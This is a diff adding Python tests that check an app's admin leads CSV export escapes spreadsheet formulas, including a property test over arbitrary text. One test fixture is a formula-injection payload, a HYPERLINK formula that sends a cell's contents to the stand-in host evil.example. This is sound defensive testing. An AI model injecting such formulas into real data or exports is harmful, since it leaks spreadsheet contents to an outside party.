@@ -3,7 +3,10 @@ admins list and export them."""
 
 from __future__ import annotations
 
+import csv
+import io
 import subprocess
+from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
 
@@ -14,7 +17,9 @@ from hypothesis import strategies as st
 from agency.app import create_app
 from agency.core import mail
 from agency.modules.auth.service import admin as auth_admin
+from agency.modules.insights import service as insights_service
 from agency.modules.insights.models import Lead
+from agency.modules.insights.schemas import LeadOut
 from tests.auth.helpers import HEADERS, call, sign_up
 from tests.conftest import make_settings, run_agency
 
@@ -167,3 +172,44 @@ def test_cli_lists_and_exports(tmp_path: Path) -> None:
     assert "0 lead(s)" in listed.stdout
     agency("leads", "export", "--csv", str(tmp_path / "leads.csv"))
     assert (tmp_path / "leads.csv").read_text().startswith("created_at,form,email")
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?l="&A1,"click")'
+
+
+async def test_the_csv_export_neutralises_formulas(site: Any) -> None:
+    client = site.test_client()
+    lead = {"source": "free-preview", "email": "a@b.co", "name": FORMULA, "domain": "x.com"}
+    assert (await call(client, "post", "/api/leads", lead))[0] == 201
+    await sign_up(client)
+    await auth_admin.set_role("ada@example.com", "admin")
+    response = await client.get("/api/admin/leads.csv", headers=HEADERS)
+    rows = list(csv.reader(io.StringIO((await response.get_data()).decode())))
+    assert rows[1][3] == "'" + FORMULA
+
+
+@given(st.text(max_size=30))
+def test_no_csv_cell_starts_a_formula(text: str) -> None:
+    rows = list(
+        csv.reader(
+            io.StringIO(
+                insights_service.to_csv(
+                    [
+                        LeadOut(
+                            id=1,
+                            source="free-preview",
+                            source_label="Free preview",
+                            email=text,
+                            name=text,
+                            domain=text,
+                            message=text,
+                            created_at=datetime.now(UTC),
+                        )
+                    ]
+                )
+            ),
+        )
+    )
+    for cell in rows[1][2:]:
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+        assert cell in (text, "'" + text)
